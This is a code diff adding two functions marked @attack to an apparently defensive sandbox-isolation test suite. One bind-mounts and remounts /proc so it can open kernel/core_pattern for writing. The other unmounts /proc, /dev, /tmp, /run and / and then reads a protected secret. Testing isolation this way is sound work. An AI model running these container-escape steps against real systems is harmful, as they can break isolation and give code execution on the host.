@@ -187,6 +187,23 @@ def writing_again_what_is_read_only() -> str:
 
 
 @attack
+def the_same_in_another_place() -> str:
+    """Read-only is a property of a mount, and this would be another one."""
+    os.makedirs("/tmp/p", exist_ok=True)
+    call((165, 40), b"/proc", b"/tmp/p", None, 4096, None)  # MS_BIND
+    call((165, 40), None, b"/tmp/p", None, 32 | 4096, None)
+    os.close(os.open("/tmp/p/sys/kernel/core_pattern", os.O_WRONLY))
+    return "it can be written"
+
+
+@attack
+def what_lies_under_a_mount() -> str:
+    for where in (b"/proc", b"/dev", b"/tmp", b"/run", b"/"):
+        call((166, 39), where, 2)  # MNT_DETACH
+    return reads_secret(SECRET)
+
+
+@attack
 def a_namespace_of_another_process() -> str:
     for name in filter(str.isdigit, os.listdir("/proc")):
         for kind in ("mnt", "pid", "user"):
